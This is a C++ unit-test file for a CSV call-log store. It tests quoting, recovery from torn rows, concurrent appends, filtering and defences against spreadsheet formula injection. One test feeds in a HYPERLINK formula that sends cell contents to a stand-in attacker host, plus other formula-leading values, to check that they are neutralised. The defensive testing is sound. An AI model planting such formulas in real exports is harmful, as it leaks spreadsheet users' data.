#include "server/telephony/adapters/csv_call_log.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>
#include <unistd.h>

#include <cstdio>
#include <filesystem>
#include <fstream>
#include <thread>

#include "absl/strings/str_cat.h"
#include "server/common/file_util.h"
#include "server/common/time_util.h"
#include "server/telephony/core/csv.h"
#include "tests/server/telephony/test_util.h"
#include "tests/testing/status_matchers.h"

namespace remediator::telephony {
namespace {

using ::remediator::testing::IsOk;
using ::testing::HasSubstr;

CallRecord MakeRecord(int i, absl::Time t) {
  CallRecord r;
  *r.mutable_call_time() = ToProtoTime(t);
  r.set_number(absl::StrCat("+3361234", 1000 + i));
  r.set_speech(absl::StrCat("Call ", i, ", with \"quotes\", commas\nand a newline."));
  r.set_can_intervene(i % 2 == 0);
  r.set_incident_id(absl::StrCat("inc-", i % 3));
  r.set_transcript("yes i can come");
  r.set_outcome(::telephony::v1::CALL_OUTCOME_ANSWERED);
  r.set_call_id(absl::StrCat("call-", i));
  r.set_decision(::telephony::v1::DECISION_YES);
  r.set_confidence(0.9);
  r.set_attempts(1);
  r.set_dialer("sip");
  *r.mutable_duration() = ToProtoDuration(absl::Milliseconds(1500 + i));
  return r;
}

TEST(CsvTest, QuotesAndNeutralizes) {
  EXPECT_EQ(FormatCsvRow({"a", "b,c", "say \"hi\"", "=1+1", "+336", "'x", ""}),
            "a,\"b,c\",\"say \"\"hi\"\"\",'=1+1,'+336,''x,\n");
  auto parsed = ParseCsv("a,\"b,c\",\"say \"\"hi\"\"\",'=1+1,'+336,''x,\n");
  ASSERT_THAT(parsed, IsOk());
  ASSERT_EQ(parsed->rows.size(), 1u);
  EXPECT_THAT(parsed->rows[0],
              ::testing::ElementsAre("a", "b,c", "say \"hi\"", "=1+1", "+336", "'x", ""));
}

TEST(CsvTest, TornLastRowIsNotComplete) {
  auto parsed = ParseCsv("h1,h2\nv1,v2\nv3,\"partial\n");
  ASSERT_THAT(parsed, IsOk());
  EXPECT_EQ(parsed->rows.size(), 2u);
  EXPECT_EQ(parsed->complete_bytes, std::string("h1,h2\nv1,v2\n").size());
}

TEST(CsvTest, RejectsStrayQuote) {
  EXPECT_FALSE(ParseCsv("a\"b,c\n").ok());
  EXPECT_FALSE(ParseCsv("\"a\"b,c\n").ok());
}

TEST(CsvCallLogTest, ConcurrentAppendsAreWellFormedForPythonCsv) {
  TempDir dir;
  std::string path = dir.path() + "/calls.csv";
  auto log = CsvCallLog::Open(path);
  ASSERT_THAT(log, IsOk());
  // Two independent CsvCallLog objects on one file: the flock, not only the mutex, must hold.
  auto other = CsvCallLog::Open(path);
  ASSERT_THAT(other, IsOk());
  const absl::Time base = absl::FromUnixSeconds(1790000000);
  std::vector<std::thread> threads;
  for (int i = 0; i < 50; ++i) {
    threads.emplace_back([&, i] {
      CsvCallLog& target = i % 2 == 0 ? **log : **other;
      EXPECT_THAT(target.Append(MakeRecord(i, base + absl::Seconds(i))), IsOk());
    });
  }
  for (auto& t : threads) t.join();

  // Python's csv module reads it back: 1 header + 50 rows of 17 cells; prints a summary.
  std::string out = RunCommand(
      "/usr/bin/python3 -c 'import csv,sys\n"
      "rows=list(csv.reader(open(sys.argv[1],newline=\"\")))\n"
      "assert rows[0][:8]==[\"call_time\",\"number\",\"speech\",\"can_intervene\",\"incident_id\","
      "\"transcript\",\"outcome\",\"call_id\"], rows[0]\n"
      "assert all(len(r)==len(rows[0]) for r in rows), [len(r) for r in rows]\n"
      "ids=sorted(int(r[7].split(\"-\")[1]) for r in rows[1:])\n"
      "assert ids==list(range(50)), ids\n"
      "assert all(\"\\n\" in r[2] and r[2].startswith(\"Call \") for r in rows[1:])\n"
      "print(\"rows\", len(rows)-1)' " +
      path);
  EXPECT_EQ(out, "rows 50\n");

  auto all = (*log)->List(CallFilter{});
  ASSERT_THAT(all, IsOk());
  ASSERT_EQ(all->size(), 50u);
  EXPECT_EQ((*all)[0].call_id(), "call-49");  // newest first
  EXPECT_EQ((*all)[49].call_id(), "call-0");
}

TEST(CsvCallLogTest, HostileCellsRoundTripAndAreNeutralizedForSpreadsheets) {
  TempDir dir;
  std::string path = dir.path() + "/calls.csv";
  auto log = CsvCallLog::Open(path);
  ASSERT_THAT(log, IsOk());
  CallRecord r = MakeRecord(1, absl::FromUnixMillis(1790000000123));
  r.set_speech("=HYPERLINK(\"http://evil.example/?q=\"&A1,\"click\")");
  r.set_transcript("@SUM(1,2)\r\n-3 \"no\", said \"he\"");
  r.set_incident_id("'quoted");
  r.set_error("\tTAB,start");
  ASSERT_THAT((*log)->Append(r), IsOk());
  auto back = (*log)->List(CallFilter{});
  ASSERT_THAT(back, IsOk());
  ASSERT_EQ(back->size(), 1u);
  EXPECT_EQ((*back)[0].DebugString(), r.DebugString());

  // As a spreadsheet sees it (Python csv): no cell starts with a formula character.
  std::string out = RunCommand(
      "/usr/bin/python3 -c 'import csv,sys\n"
      "rows=list(csv.reader(open(sys.argv[1],newline=\"\")))\n"
      "print(len(rows), *[repr(c[:2]) for c in rows[1][1:6]])' " +
      path);
  EXPECT_EQ(out, "2 \"'+\" \"'=\" 'fa' \"''\" \"'@\"\n");
}

TEST(CsvCallLogTest, FiltersAndIdempotencyKeys) {
  TempDir dir;
  auto log = CsvCallLog::Open(dir.path() + "/calls.csv");
  ASSERT_THAT(log, IsOk());
  const absl::Time base = absl::FromUnixSeconds(1790000000);
  for (int i = 0; i < 6; ++i) {
    CallRecord r = MakeRecord(i, base + absl::Minutes(i));
    if (i == 4) r.set_idempotency_key("key-4");
    ASSERT_THAT((*log)->Append(r), IsOk());
  }
  CallFilter f;
  f.incident_id = "inc-1";
  auto by_incident = (*log)->List(f);
  ASSERT_THAT(by_incident, IsOk());
  ASSERT_EQ(by_incident->size(), 2u);
  EXPECT_EQ((*by_incident)[0].call_id(), "call-4");
  EXPECT_EQ((*by_incident)[1].call_id(), "call-1");

  CallFilter window;
  window.since = base + absl::Minutes(2);
  window.until = base + absl::Minutes(4);
  auto in_window = (*log)->List(window);
  ASSERT_THAT(in_window, IsOk());
  ASSERT_EQ(in_window->size(), 2u);
  EXPECT_EQ((*in_window)[0].call_id(), "call-3");

  CallFilter by_number;
  by_number.number = "+33612341005";
  auto numbered = (*log)->List(by_number);
  ASSERT_THAT(numbered, IsOk());
  ASSERT_EQ(numbered->size(), 1u);
  EXPECT_EQ((*numbered)[0].call_id(), "call-5");

  auto found = (*log)->FindByIdempotencyKey("key-4");
  ASSERT_THAT(found, IsOk());
  ASSERT_TRUE(found->has_value());
  EXPECT_EQ((*found)->call_id(), "call-4");
  auto missing = (*log)->FindByIdempotencyKey("key-9");
  ASSERT_THAT(missing, IsOk());
  EXPECT_FALSE(missing->has_value());
}

TEST(CsvCallLogTest, TornRowFromACrashIsDroppedAndTheNextAppendIsClean) {
  TempDir dir;
  std::string path = dir.path() + "/calls.csv";
  auto log = CsvCallLog::Open(path);
  ASSERT_THAT(log, IsOk());
  ASSERT_THAT((*log)->Append(MakeRecord(0, absl::FromUnixSeconds(1790000000))), IsOk());
  {
    std::ofstream torn(path, std::ios::app);
    torn << "2026-11-26T07:00:00.000Z,'+33612340001,\"half a row wit";
  }
  auto csv = (*log)->ReadCsv();
  ASSERT_THAT(csv, IsOk());
  EXPECT_THAT(*csv, ::testing::Not(HasSubstr("half a row")));
  ASSERT_THAT((*log)->Append(MakeRecord(1, absl::FromUnixSeconds(1790000060))), IsOk());
  auto all = (*log)->List(CallFilter{});
  ASSERT_THAT(all, IsOk());
  ASSERT_EQ(all->size(), 2u);
  EXPECT_EQ((*all)[0].call_id(), "call-1");
  auto content = ReadFile(path);
  ASSERT_THAT(content, IsOk());
  EXPECT_THAT(*content, ::testing::Not(HasSubstr("half a row")));
}

TEST(CsvCallLogTest, RefusesAFileThatIsNotACallLog) {
  TempDir dir;
  std::string path = dir.path() + "/other.csv";
  ASSERT_THAT(WriteFileAtomically(path, "a,b,c\n1,2,3\n"), IsOk());
  EXPECT_THAT(CsvCallLog::Open(path),
              remediator::testing::StatusIs(absl::StatusCode::kFailedPrecondition,
                                            HasSubstr("not a call log")));
}

}  // namespace
}  // namespace remediator::telephony
